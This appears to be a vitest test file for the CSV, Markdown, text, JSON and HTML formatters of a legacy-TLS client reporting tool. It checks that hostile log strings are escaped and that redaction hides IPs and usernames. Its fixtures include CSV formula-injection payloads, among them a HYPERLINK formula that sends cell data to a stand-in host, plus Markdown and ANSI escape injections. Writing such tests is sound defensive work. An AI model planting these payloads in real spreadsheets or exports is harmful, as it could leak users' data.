// The formatters on hostile data: CSV formula injection neutralized, Markdown and text escaping, text width and
// colour, the JSON shape, and --redact pseudonyms that are stable within a report and leak nothing.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { KnownException } from '../../src/exceptions/exceptions.js';
import { resolveFilter } from '../../src/report/filter.js';
import { FORMATTERS, REPORT_FORMATS } from '../../src/report/formatters.js';
import { JSON_SCHEMA_VERSION } from '../../src/report/json.js';
import { pseudonymizer, redact } from '../../src/report/redact.js';
import { renderReport } from '../../src/report/render.js';
import { readSummary } from '../../src/report/summary.js';
import { openDatabase } from '../../src/store/open-database.js';
import { buildDb, testIdentificationView, type UsageSpec } from './report-db.js';

const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A2)', '\tcmd', '\rcmd'];

const HOSTILE: UsageSpec[] = [
  ...FORMULAS.map((f, i) => ({ client_ip: `10.1.0.${i}`, username: f, user_agent: f, protocol: 'TLS 1.0', hits: 10 + i })),
  { client_ip: '10.2.0.1', username: 'a|b*c_d`e[f](g)<b>h</b>&amp;', user_agent: '\u001b[31mred\u001b[0m\nline', protocol: 'TLS 1.1', hits: 3 },
  { client_ip: '10.3.0.1', username: 'CONTOSO\\dave', user_agent: 'AMProbe/Local', protocol: 'TLS 1.0', hits: 2 },
  { client_ip: '10.3.0.1', username: 'CONTOSO\\dave', user_agent: 'Legacy App', protocol: 'SSL 3.0', hits: 1 },
  { hits: 40 },
];

function withDb<T>(rows: readonly UsageSpec[], run: (db: ReturnType<typeof openDatabase>) => T): T {
  const db = openDatabase(buildDb(rows, testIdentificationView), { readonly: true });
  try {
    return run(db);
  } finally {
    db.close();
  }
}

const render = (format: (typeof REPORT_FORMATS)[number], extra: { top?: number; redact?: ReturnType<typeof pseudonymizer> } = {}) =>
  withDb(HOSTILE, (db) => renderReport(db, { format, filter: {}, db: 'test.db', color: false, ...extra }));

describe('csv', () => {
  it('neutralizes every cell a spreadsheet would run as a formula, and only those', () => {
    const rows = parse(render('csv'), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(9);
    for (const f of FORMULAS) {
      const row = rows.find((r) => r.username === `'${f}`);
      expect(row, f).toBeDefined();
      expect(row?.user_agent).toBe(`'${f}`);
    }
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const dave = rows.find((r) => r.user_agent === 'Legacy App');
    expect(dave).toMatchObject({ username: 'CONTOSO\\dave', protocols: 'SSL 3.0', legacy_hits: '1', tls12_capable: 'no', hint: 'replace the app' });
    expect(rows.find((r) => r.user_agent === 'AMProbe/Local')?.noise).toBe('managed-availability');
  });
});

describe('markdown and text', () => {
  it('keeps log strings plain text in Markdown', () => {
    const md = render('markdown');
    expect(md).toContain('a\\|b\\*c\\_d\\`e\\[f\\](g)&lt;b&gt;h&lt;/b&gt;&amp;amp;');
    expect(md).not.toContain('<b>');
    expect(md).not.toMatch(/\u001b/);
    // Twelve columns: escaped pipes inside a cell do not split it.
    const row = md.split('\n').filter((l) => l.startsWith('| 3 |'));
    expect(row).toHaveLength(1);
    expect(row[0].split(/(?<!\\)\|/).length).toBe(14);
  });

  it('fits text into 100 columns, shows control characters as "?", colours only when asked', () => {
    const text = render('text', { top: 50 });
    for (const line of text.split('\n')) expect(line.length, line).toBeLessThanOrEqual(100);
    expect(text).toContain('?[31mred?[0m?line');
    expect(text).not.toMatch(/\u001b/);
    const coloured = withDb(HOSTILE, (db) => renderReport(db, { format: 'text', filter: {}, db: 'test.db', color: true }));
    expect(coloured).toMatch(/\u001b\[1mHits by protocol\u001b\[22m/);
    const visible = coloured.replace(/\u001b\[\d+m/g, '');
    for (const line of visible.split('\n')) expect(line.length, line).toBeLessThanOrEqual(100);
  });

  it('lists noise apart from real clients and shows the identification', () => {
    const text = render('text');
    const [clients, noise] = text.split(/\nNoise /);
    expect(clients).toContain('Legacy App [TLS 1.2: no] → replace the app');
    expect(clients).not.toContain('AMProbe');
    expect(noise).toMatch(/managed-availability\s+1 clients\s+2 hits: 10\.3\.0\.1/);
  });
});

describe('known exceptions', () => {
  it('are marked in every format', () => {
    const exceptions: KnownException[] = [
      { id: null, match: 'user', value: 'CONTOSO\\dave', reason: 'kiosk until the May refresh', expires: '2099-05-31', origin: 'test' },
    ];
    const out = (format: (typeof REPORT_FORMATS)[number]) =>
      withDb(HOSTILE, (db) => renderReport(db, { format, filter: {}, db: 'test.db', color: false, exceptions, top: 50 }));
    expect(out('text')).toContain('known exception until 2099-05-31: kiosk until the May refresh');
    expect(out('markdown')).toMatch(/\| known exception \|[\s\S]*until 2099-05-31: kiosk until the May refresh \|/);
    const json = JSON.parse(out('json'));
    const dave = json.legacyClients.find((c: { userAgent: string }) => c.userAgent === 'Legacy App');
    expect(dave.exception).toEqual({ match: 'user', value: 'CONTOSO\\dave', reason: 'kiosk until the May refresh', expires: '2099-05-31' });
    expect(json.legacy).toMatchObject({ exceptedClients: 1, exceptedHits: 1 });
    const csv = parse(out('csv'), { columns: true }) as Record<string, string>[];
    expect(csv.find((r) => r.user_agent === 'Legacy App')).toMatchObject({ exception: 'kiosk until the May refresh', exception_expires: '2099-05-31' });
    expect(out('html')).toMatch(/<tr class="excepted">.*until 2099-05-31: kiosk until the May refresh/);
  });
});

describe('json', () => {
  it('has the documented top-level shape and lists every client unless --top', () => {
    const j = JSON.parse(render('json')) as Record<string, unknown> & { legacyClients: Record<string, unknown>[] };
    expect(Object.keys(j)).toEqual([
      'schema', 'database', 'redacted', 'window', 'totals', 'servers', 'plan', 'verdicts', 'legacy', 'legacyPeople', 'legacyClients',
      'noise', 'daily',
      'endpoints', 'plain', 'unknown', 'files', 'findings', 'exchangeServer', 'exchangeOnline',
    ]);
    expect(j.schema).toBe(JSON_SCHEMA_VERSION);
    expect(j.legacyClients).toHaveLength(9);
    expect(Object.keys(j.legacyClients[0])).toEqual([
      'source', 'clientIp', 'username', 'userAgent', 'client', 'tls12Capable', 'noise', 'hint', 'protocols', 'legacyHits',
      'hitsByProtocol', 'modernHits', 'authFailures', 'errors', 'firstSeen', 'lastSeen', 'servers', 'endpoints', 'internal',
      'exception',
    ]);
    expect(JSON.parse(render('json', { top: 2 })).legacyClients).toHaveLength(2);
  });
});

describe('--redact', () => {
  it('gives the same client the same pseudonym within a report, in every place it appears', () => {
    const p = pseudonymizer(Buffer.alloc(32, 7));
    const j = JSON.parse(render('json', { redact: p }));
    const dave = j.legacyClients.filter((c: { userAgent: string }) => c.userAgent === 'Legacy App' || c.userAgent === 'AMProbe/Local');
    expect(dave).toHaveLength(2);
    expect(dave[0].clientIp).toBe(dave[1].clientIp);
    expect(dave[0].username).toBe(dave[1].username);
    expect(dave[0].clientIp).toMatch(/^ip-[0-9a-f]{12}$/);
    expect(dave[0].username).toMatch(/^user-[0-9a-f]{12}$/);
    expect(j.noise[0].addresses).toEqual([dave[0].clientIp]);
    expect(j.redacted).toBe(true);
    // Same key, same pseudonyms (stable); another key, others (not joinable across reports).
    expect(JSON.parse(render('json', { redact: pseudonymizer(Buffer.alloc(32, 7)) })).legacyClients).toEqual(j.legacyClients);
    const other = JSON.parse(render('json', { redact: pseudonymizer(Buffer.alloc(32, 8)) }));
    expect(other.legacyClients[0].clientIp).not.toBe(j.legacyClients[0].clientIp);
  });

  it('leaves no address or user name in any format', () => {
    for (const format of REPORT_FORMATS) {
      const out = render(format, { redact: pseudonymizer() });
      for (const secret of ['10.1.0.', '10.3.0.1', 'CONTOSO\\dave', 'CONTOSO\\\\dave', 'a|b']) expect(out, format).not.toContain(secret);
    }
  });

  it('withholds bad-line messages, which may quote log text', () => {
    const s = withDb(HOSTILE, (db) => readSummary(db, { top: null, filter: resolveFilter(db, {}) }));
    const withProblem = { ...s, files: { ...s.files, problems: [{ path: 'a.log', code: 'garbage', count: 1, firstLine: 3, message: '10.9.9.9 said hi' }] } };
    expect(FORMATTERS.json(redact(withProblem), { db: 'x', color: false })).not.toContain('10.9.9.9');
  });
});
